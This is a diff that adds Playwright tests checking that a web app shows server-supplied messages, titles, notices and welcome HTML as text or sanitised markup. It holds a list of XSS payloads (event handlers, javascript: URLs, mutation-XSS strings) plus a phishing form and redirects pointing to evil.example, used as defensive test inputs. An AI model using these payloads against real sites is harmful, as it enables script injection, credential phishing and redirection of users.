@@ -1,4 +1,8 @@
+import { DEMO } from '#mock/scenarios/personas.ts'
+import { goTo, logIn, pathOf, toast } from './journeys/entry.ts'
+import { header } from './journeys/home.ts'
 import { CLOSED, expectHarmless, OPEN } from './support/bad-html.ts'
+import { REFUSED } from './support/mock.ts'
 import { expect, test } from './support/test.ts'
 
 test.describe('HTML from the server', { tag: '@production' }, () => {
@@ -21,4 +25,97 @@ test.describe('HTML from the server', { tag: '@production' }, () => {
       await expectHarmless(shown)
     })
   }
+})
+
+const message = '<img src=x onerror=__pwn=1><script>__pwn=1</script>余额&amp;不足'
+const refusal = { kind: 'refuse', code: REFUSED, message } as const
+
+test('messages of the server are shown literally', { tag: '@both' }, async ({ app, page }) => {
+  await app.open({ scenario: 'member-with-money', path: '/login' })
+  await app.mock.faults({ add: [{ endpoint: '/api/login', ...refusal, times: 1 }] })
+  await logIn(page, DEMO)
+  await expect(toast(page)).toHaveText(message)
+  await logIn(page, DEMO)
+  await expect(header(page)).toBeVisible()
+  await app.mock.faults({ add: [{ endpoint: '/api/transall', ...refusal, times: 1 }] })
+  // Home would show its welcome first; the header of another route has the button too.
+  await goTo(page, '/kefu')
+  await header(page).getByRole('button', { name: '一键回收' }).click()
+  await expect(toast(page)).toHaveText(message)
+  expect(await page.evaluate(() => '__pwn' in window)).toBe(false)
+})
+
+test('names, notices and titles of the server are shown as text', { tag: '@both' }, async ({ app, page }) => {
+  await app.open({ scenario: 'visitor', path: '/kefu' })
+  const text = '<img src=x onerror=__pwn=1>云舟'
+  await app.mock.site({ settings: { title: text, welcomeModal: false } })
+  await page.reload()
+  await expect(header(page).getByText(text)).toBeVisible()
+  await app.mock.faults({
+    add: [
+      { endpoint: '/api/homenotice', kind: 'patch', fields: { data: [text, '<script>__pwn=1</script>'] } },
+    ],
+  })
+  await goTo(page, '/')
+  await page.getByRole('button', { name: '查看公告' }).click()
+  const dialog = page.getByRole('dialog', { name: '公告' })
+  await expect(dialog.getByText(text)).toBeVisible()
+  await expect(dialog.getByText('<script>__pwn=1</script>')).toBeVisible()
+  expect(await page.evaluate(() => '__pwn' in window)).toBe(false)
+})
+
+/**
+ * Scripts, handlers, forms for phishing, covers, clobbering, trackers, mutation
+ * (docs/faults.md#hostile-html).
+ */
+const HOSTILE_HTML = [
+  '<p>好好的字</p>',
+  '<script>__pwn=1</script>',
+  '<img src=x onerror=__pwn=1>',
+  '<svg onload=__pwn=1><animate onbegin=__pwn=1 attributeName=x dur=1s></svg>',
+  '<a href="javascript:__pwn=1">a</a>',
+  '<a href="data:text/html,<script>__pwn=1</script>">b</a>',
+  '<iframe srcdoc="<script>parent.__pwn=1</script>"></iframe>',
+  '<form action="https://evil.example"><input name="password"><button>登录</button></form>',
+  '<div style="position:fixed;inset:0;z-index:9999">盖住</div>',
+  '<div id="root" name="body">x</div>',
+  '<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=__pwn=1&gt;">',
+  '<noscript><p title="</noscript><img src=x onerror=__pwn=1>"></noscript>',
+  '<video><source onerror=__pwn=1></video><audio src=x onerror=__pwn=1>',
+  '<details open ontoggle=__pwn=1>d</details><marquee onstart=__pwn=1>m</marquee>',
+  '<template><img src=x onerror=__pwn=1></template><object data="javascript:__pwn=1"></object>',
+  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
+].join('\n')
+
+const FORBIDDEN =
+  'form,input,button,textarea,select,iframe,script,style,link,meta,base,object,embed,svg,math,video,audio,[id],[name],[style]'
+
+test.describe('the sanitiser alone, without the content security policy', () => {
+  // Chromium reports handlers as violations even in HTML that is only parsed, in an inert document.
+  test.use({ bypassCSP: true })
+
+  test('the welcome shows the text of its HTML and runs none of it', async ({ app, page }) => {
+    await app.open({ scenario: 'visitor', path: '/kefu' })
+    await app.mock.site({ settings: { webcontent: HOSTILE_HTML } })
+    await page.reload()
+    await goTo(page, '/')
+    const welcome = page.getByRole('dialog', { name: '温馨提示' })
+    await expect(welcome.getByText('好好的字')).toBeVisible()
+    const html = welcome.locator('.server-html')
+    await expect(html.locator(FORBIDDEN)).toHaveCount(0)
+    const dangerous = await html.evaluate((root) =>
+      [...root.querySelectorAll('*')].flatMap((element) =>
+        [...element.attributes]
+          .filter(({ name, value }) => name.startsWith('on') || /^\s*(javascript|data):/i.test(value))
+          .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
+      ),
+    )
+    expect(dangerous).toEqual([])
+    for (const link of await html.getByRole('link').all()) {
+      await expect(link).toHaveAttribute('rel', /noopener/)
+    }
+    expect(await page.evaluate(() => '__pwn' in window)).toBe(false)
+    expect(pathOf(page)).toBe('/')
+  })
 })
